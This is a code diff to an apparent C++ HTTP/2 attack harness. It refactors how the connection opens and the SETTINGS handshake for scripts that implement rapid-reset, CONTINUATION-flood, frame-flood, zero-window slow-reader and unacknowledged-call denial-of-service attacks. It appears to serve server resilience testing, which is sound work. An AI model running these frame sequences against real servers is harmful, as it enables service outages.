@@ -30,6 +30,9 @@ constexpr absl::Duration kPause = absl::Milliseconds(20);
 
 // Bytes that are sent once a connection, and those that are sent again and again.
 struct Script {
+  // The client's settings, and whether it acknowledges the server's before it goes on.
+  absl::string_view settings;
+  bool acknowledges = true;
   std::string opening;
   // The next `frames` frames. Streams have odd numbers that rise.
   virtual std::string Next() = 0;
@@ -46,11 +49,8 @@ struct Script {
   uint32_t stream_ = uint32_t(-1);
 };
 
-// The preface and the client's settings; also the acknowledgement of the server's, before they came.
-std::string Opening(absl::string_view settings = "") {
-  return absl::StrCat(kHttp2Preface, EncodeHttp2Frame(Http2Frame::kSettings, 0, 0, settings),
-                      EncodeHttp2Frame(Http2Frame::kSettings, kHttp2Acknowledges, 0, ""));
-}
+// Settings that leave an answer no room: SETTINGS_INITIAL_WINDOW_SIZE of 0.
+constexpr absl::string_view kNoWindow("\0\4\0\0\0\0", 6);
 
 // A whole call.
 std::string EncodeCall(const Http2AttackOptions& options, uint32_t stream) {
@@ -62,8 +62,7 @@ std::string EncodeCall(const Http2AttackOptions& options, uint32_t stream) {
 class UnfinishedHeaders : public Script {
  public:
   UnfinishedHeaders() {
-    opening = absl::StrCat(Opening(),
-                           EncodeHttp2Frame(Http2Frame::kHeaders, 0, NextStream(), EncodeUnfinishedHeader(1u << 30)));
+    opening = EncodeHttp2Frame(Http2Frame::kHeaders, 0, NextStream(), EncodeUnfinishedHeader(1u << 30));
   }
   std::string Next() override {
     return EncodeHttp2Frame(Http2Frame::kContinuation, 0, 1, std::string(kFrameBytes, 'a'));
@@ -75,7 +74,7 @@ class EndlessContinuation : public Script {
   EndlessContinuation() {
     const std::string header("\0\1a\1b", 5);
     for (size_t i = 0; i < kFrameBytes / header.size(); ++i) headers_ += header;
-    opening = absl::StrCat(Opening(), EncodeHttp2Frame(Http2Frame::kHeaders, 0, NextStream(), header));
+    opening = EncodeHttp2Frame(Http2Frame::kHeaders, 0, NextStream(), header);
     frames_in_next = 2;
   }
   std::string Next() override {
@@ -90,7 +89,6 @@ class EndlessContinuation : public Script {
 class RapidReset : public Script {
  public:
   explicit RapidReset(const Http2AttackOptions& options) : headers_(EncodeGrpcHeaders(options.path, options.token)) {
-    opening = Opening();
     frames_in_next = 2 * kCalls;
   }
   std::string Next() override {
@@ -112,7 +110,6 @@ class RapidReset : public Script {
 class Flood : public Script {
  public:
   Flood(Http2Frame type, absl::string_view payload, bool hears_answers) {
-    opening = Opening();
     hears = hears_answers;
     frames_in_next = 1000;
     const std::string frame = EncodeHttp2Frame(type, 0, 0, payload);
@@ -127,8 +124,7 @@ class Flood : public Script {
 class SlowReader : public Script {
  public:
   explicit SlowReader(const Http2AttackOptions& options) : options_(options) {
-    // SETTINGS_INITIAL_WINDOW_SIZE of 0.
-    opening = Opening(absl::string_view("\0\4\0\0\0\0", 6));
+    settings = kNoWindow;
     frames_in_next = 2;
     most_frames = 2 * kCalls;
   }
@@ -143,8 +139,8 @@ class SlowReader : public Script {
 class UnacknowledgedCalls : public Script {
  public:
   explicit UnacknowledgedCalls(const Http2AttackOptions& options) : options_(options) {
-    opening = absl::StrCat(kHttp2Preface,
-                           EncodeHttp2Frame(Http2Frame::kSettings, 0, 0, absl::string_view("\0\4\0\0\0\0", 6)));
+    settings = kNoWindow;
+    acknowledges = false;
     frames_in_next = 2;
   }
   std::string Next() override { return EncodeCall(options_, NextStream()); }
@@ -176,6 +172,18 @@ std::unique_ptr<Script> MakeScript(const Http2AttackOptions& options) {
   return nullptr;
 }
 
+// Says what comes before the attack.
+absl::Status Open(Http2Peer& peer, const Script& script) {
+  absl::Status status =
+      peer.Send(absl::StrCat(kHttp2Preface, EncodeHttp2Frame(Http2Frame::kSettings, 0, 0, script.settings)));
+  if (script.acknowledges) {
+    if (status.ok()) status = peer.AwaitWord();
+    if (status.ok()) status = peer.Send(EncodeHttp2Frame(Http2Frame::kSettings, kHttp2Acknowledges, 0, ""));
+  }
+  if (status.ok()) status = peer.Send(script.opening);
+  return status;
+}
+
 // Attacks over one connection at a time; counts what happened. The first error that says that no attack is possible.
 absl::Status Talk(const Http2AttackOptions& options, absl::Time end, Http2AttackCounts& counts) {
   // What attackers compute themselves is to take little from what runs beside them.
@@ -199,7 +207,7 @@ absl::Status Talk(const Http2AttackOptions& options, absl::Time end, Http2Attack
     const std::unique_ptr<Script> script = MakeScript(options);
     (*peer)->SetHears(script->hears);
     uint64_t sent = 0;
-    absl::Status status = (*peer)->Send(script->opening);
+    absl::Status status = Open(**peer, *script);
     for (uint64_t frames = 0; status.ok() && sent < options.bytes_each && frames < script->most_frames;
          frames += script->frames_in_next) {
       const std::string next = script->Next();
